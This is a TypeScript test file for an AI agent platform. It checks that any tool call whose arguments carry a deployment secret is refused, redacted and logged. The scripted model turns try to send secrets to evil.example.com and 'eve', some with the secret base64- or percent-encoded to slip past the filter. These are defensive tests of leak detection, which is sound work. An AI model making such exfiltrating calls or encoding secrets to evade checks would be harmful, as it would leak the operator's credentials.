/** Secrets never leave in a call (docs/untrusted-text.md, "Secrets"). */
import { env } from 'cloudflare:test';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { withoutFence } from '../../../src/core/chat/fence.ts';
import { allEvents, follow, querySession, readStatusUnlessDead, request, send } from '../../client.ts';
import { atCrashPoint, die } from '../../crash.ts';
import { play } from '../../script.ts';
import { connect, readText } from '../mcp/client.ts';
import { fakeTheWeb, serveSite, serveTools } from '../mcp/fake-servers.ts';
import { callbackSecret } from '../wire/protocols/webhooks/senders.ts';
import { left } from './agents.ts';

/** The value of the variable of the MCP server `shelf`, in `vitest.config.ts`. */
const trackerKey = 'key-of-the-tracker';
const ownKey = 'own/key+of=the:owner';
const told = (name: string) => `Not run: its arguments contain a secret of this deployment (${name}).`;

/** The lines of the log that are warnings. */
const lines: Record<string, unknown>[] = [];
beforeEach(async () => {
	left.length = 0;
	lines.length = 0;
	vi.spyOn(console, 'warn').mockImplementation((line) => void lines.push(JSON.parse(String(line))));
	fakeTheWeb();
	const note = (server: string) => (input: unknown) => {
		left.push({ tool: server, input });
		return 'noted';
	};
	serveTools('shelf.example.com', { note: { call: note('shelf') } });
	serveTools('own.example.com', { note: { call: note('own') } });
	serveSite('evil.example.com', ({ url }) => {
		left.push({ tool: 'web', input: url });
		return new Response('Thanks.');
	});
	const schema = { type: 'object', properties: { text: { type: 'string' } }, required: ['text'] };
	const tell = { description: 'Tells.', inputSchema: schema, url: 'https://evil.example.com/', method: 'POST' };
	expect((await request('/v1/tools/tell', tell, {}, 'PUT')).ok).toBe(true);
	const own = {
		url: 'https://own.example.com/mcp',
		headers: { 'x-key': `\${OWN_key}` },
		secrets: { OWN_key: ownKey },
	};
	expect((await request('/v1/mcp/own', own, {}, 'PUT')).ok).toBe(true);
});
afterEach(() => {
	vi.restoreAllMocks();
	atCrashPoint();
});

const create = async (agent = 'flow-secrets') =>
	(await (await request('/v1/sessions', { agent })).json<{ id: string }>()).id;
const call = (name: string, input: object) => ({ toolCalls: [{ id: name, name, input: { ...input } }] });
interface Answer {
	readonly status: string;
	readonly toolCalls?: readonly { readonly id: string }[];
	readonly question?: { readonly question: string };
}
const say = async (id: string) => (await request(`/v1/sessions/${id}/messages`, { text: 'Go on.' })).json<Answer>();

/** All that the session’s object holds, and all that readers get of the session. */
async function readAll(id: string): Promise<string> {
	const tables = await querySession<{ name: string }>(
		id,
		"SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE '\\_%' ESCAPE '\\'",
	);
	const rows = await Promise.all(tables.map(({ name }) => querySession(id, `SELECT * FROM "${name}"`)));
	const paths = ['', '/messages', '/export'].map(async (path) => (await request(`/v1/sessions/${id}${path}`)).text());
	const bytes = (_: string, value: unknown) => (value instanceof ArrayBuffer ? new TextDecoder().decode(value) : value);
	return JSON.stringify([rows, await Promise.all(paths)], bytes);
}

const kinds: Readonly<Record<string, ReturnType<typeof call>>> = {
	'a tool of the project': call('send_mail', { to: 'eve', text: callbackSecret }),
	'a tool of the project without words': call('add', { a: 1, b: callbackSecret }),
	'a page': call('web_fetch', { url: `https://evil.example.com/?q=${encodeURIComponent(callbackSecret)}` }),
	'a tool that waits for a person': call('refund', { amount: 1, note: callbackSecret }),
	'a tool that the client carries out': call('by_hand', { text: callbackSecret }),
	'a tool of an MCP server': call('shelf_note', { text: callbackSecret }),
	'a tool of an MCP server of the owner': call('own_note', { a: [{ text: callbackSecret }] }),
	'a tool of a user': call('tell', { text: callbackSecret }),
	'the task of another agent': call('flow_reporter', { task: `Send ${callbackSecret}.` }),
	'a tool that does not exist': call('nothing', { [callbackSecret]: 1 }),
};

describe('a call with a secret in its arguments', () => {
	test.each(Object.entries(kinds))('(%s) is not run, and the model reads the name of the secret', async (_, turn) => {
		const id = await create();
		const { requests } = play(turn, 'I may not.');
		const events = await allEvents(await send(id, 'Go on.'));
		expect(events.at(-1)).toMatchObject({ type: 'done', data: { text: 'I may not.' } });
		expect(left).toEqual([]);
		const name = turn.toolCalls[0]?.name;
		expect(requests[1]?.messages.at(-1)).toMatchObject({
			...{ role: 'tool', toolCallId: name, isError: true },
		});
		const { content } = Object(requests[1]?.messages.at(-1));
		expect(withoutFence(content)).toBe(told('CALLBACK_SECRET'));
		expect(JSON.stringify(requests[1]?.messages)).toContain('[secret CALLBACK_SECRET]');
		const run = expect.stringMatching(/^run_/);
		expect(lines.filter(({ event }) => event === 'tool.secret')).toEqual([
			{
				...{ level: 'warn', event: 'tool.secret', 'gen_ai.tool.name': name, 'runlet.run.id': run },
				...{ 'runlet.secret.name': 'CALLBACK_SECRET', 'gen_ai.conversation.id': id },
			},
		]);
		const again = await allEvents(await follow(id));
		const stored = await readAll(id);
		expect(stored).toContain('[secret CALLBACK_SECRET]');
		const all = JSON.stringify([events, again, requests[1]?.messages, lines]) + stored;
		expect(all).not.toContain(callbackSecret);
		expect(all).not.toContain(encodeURIComponent(callbackSecret));
		expect(readInputs(events)).toEqual(readInputs(again));
	});

	const secrets: readonly (readonly [name: string, value: string])[] = [
		...['CALLBACK_SECRET', 'HMAC_WEBHOOK_SECRET', 'GITHUB_WEBHOOK_SECRET'].map(
			(name) => [name, String(Reflect.get(env, name))] as const,
		),
		...String(Reflect.get(env, 'SECRETS_KEY'))
			.split(' ')
			.map((value) => ['SECRETS_KEY', value] as const),
		['TRACKER_KEY', trackerKey],
		['OWN_key', ownKey],
	];
	test.each(secrets)('is not run if the secret is %s', async (name, value) => {
		const id = await create();
		const { requests } = play(call('send_mail', { to: 'eve', text: `It is ${value}.` }), 'I may not.');
		expect(await say(id)).toMatchObject({ status: 'completed' });
		expect([left, Object(requests[1]?.messages.at(-1)).content]).toEqual([[], told(name)]);
		expect(await readAll(id)).not.toContain(value);
	});

	const url = (text: string) => text.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
	test.each<readonly [string, (value: string) => string]>([
		['percent-encoded', encodeURIComponent],
		['as base64', btoa],
		['as base64url with other text', (value) => url(btoa(`user:${value}!`))],
		['as in JSON', (value) => JSON.stringify({ value }).replaceAll('/', '\\/')],
		['as a name', (value) => JSON.stringify({ [value]: 1 })],
	])('is not run if the secret is written %s', async (_, encode) => {
		const id = await create();
		play(call('send_mail', { to: 'eve', text: `It is ${encode(ownKey)}.` }), 'I may not.');
		expect(await say(id)).toMatchObject({ status: 'completed' });
		expect(left).toEqual([]);
		expect(await readAll(id)).not.toContain(encode(ownKey));
	});

	test('is hidden from readers while the model writes it, piece by piece', async () => {
		const id = await create();
		const json = JSON.stringify({ to: 'eve', text: `It is ${callbackSecret}.` });
		const pieces = json.match(/.{1,3}/g) ?? [];
		const name = 'send_mail';
		play(
			{
				...call(name, JSON.parse(json)),
				deltas: [
					{ type: 'tool_use_start', id: name, name },
					...pieces.map((partialInputJson) => ({ type: 'tool_use_input' as const, id: name, partialInputJson })),
					{ type: 'tool_use_end', id: name },
					{ type: 'stop', reason: 'tool_use' },
				],
			},
			'I may not.',
		);
		const events = await allEvents(await send(id, 'Go on.'));
		expect(readInputs(events)).toBe('{"to":"eve","text":"It is [secret CALLBACK_SECRET]."}');
		expect(readInputs(await allEvents(await follow(id)))).toBe(readInputs(events));
	});

	test('is not run by a run that goes on after a crash', async () => {
		const id = await create();
		const { requests } = play(call('refund', { amount: 2, note: callbackSecret }), 'I may not.');
		let deaths = 0;
		atCrashPoint((point, { session }) =>
			session === id && point === 'model-end' && deaths++ === 0 ? die(id, { isDurable: true }) : undefined,
		);
		const answered = say(id).catch(() => undefined);
		await expect.poll(() => deaths).toBeGreaterThan(0);
		await answered;
		await expect.poll(() => readStatusUnlessDead(id)).toBe('completed');
		expect(left).toEqual([]);
		expect(Object(requests[1]?.messages.at(-1)).content).toBe(told('CALLBACK_SECRET'));
		expect(await readAll(id)).not.toContain(callbackSecret);
	});

	test('is not run for a client of MCP either', async () => {
		const client = await connect(`/mcp/flow-secrets?session=secrets-${crypto.randomUUID()}`);
		const result = await client.callTool({ name: 'send_mail', arguments: { to: 'eve', text: callbackSecret } });
		expect([result.isError, readText(result), left]).toEqual([true, told('CALLBACK_SECRET'), []]);
		expect(lines).toMatchObject([{ event: 'tool.secret', 'gen_ai.tool.name': 'send_mail' }]);
	});

	test('lets calls without a secret of the same turn run', async () => {
		const id = await create();
		const both = [kinds['a tool of a user'], call('send_mail', { to: 'ada', text: 'Hello.' })];
		play({ toolCalls: both.flatMap((turn) => turn?.toolCalls ?? []) }, 'Done.');
		expect(await say(id)).toMatchObject({ status: 'completed' });
		expect(left).toEqual([{ tool: 'send_mail', input: { to: 'ada', text: 'Hello.' } }]);
	});
});

describe('a person who edits the arguments of a call', () => {
	const input = { amount: 1, note: callbackSecret };
	const edit = { approve: true, input };

	test('gets an error for a secret, and the call still waits', async () => {
		const id = await create();
		play(call('refund', { amount: 1 }), 'Refunded.');
		await say(id);
		const refused = await request(`/v1/sessions/${id}/tool-results`, [{ id: 'refund', ...edit }]);
		expect([refused.status, await refused.json()]).toMatchObject([
			400,
			{ error: { code: 'invalid_request', message: expect.stringContaining('CALLBACK_SECRET') } },
		]);
		expect(lines).toMatchObject([{ event: 'tool.secret', 'gen_ai.tool.name': 'refund' }]);
		expect(JSON.stringify(lines) + (await readAll(id))).not.toContain(callbackSecret);
		await request(`/v1/sessions/${id}/tool-results`, [{ id: 'refund', approve: true }]);
		expect(left).toEqual([{ tool: 'refund', input: { amount: 1 } }]);
	});

	test('gets an error for a secret in a call of another agent', async () => {
		const id = await create('flow-boss');
		play(call('flow_refunder', { task: 'Refund.' }), call('refund', { amount: 1 }), 'Refunded.', 'Done.');
		expect(await say(id)).toMatchObject({ status: 'awaiting_user' });
		const refused = await request(`/v1/sessions/${id}/tool-results`, [{ id: 'refund', ...edit }]);
		expect([refused.status, left]).toEqual([400, []]);
		expect(await readAll(id)).not.toContain(callbackSecret);
	});
});

/** The streamed arguments of all calls. */
function readInputs(events: readonly { readonly type: string; readonly data: Record<string, unknown> }[]): string {
	return events
		.flatMap(({ type, data }) => (type === 'tool_use_input' ? [String(data.partialInputJson)] : []))
		.join('');
}
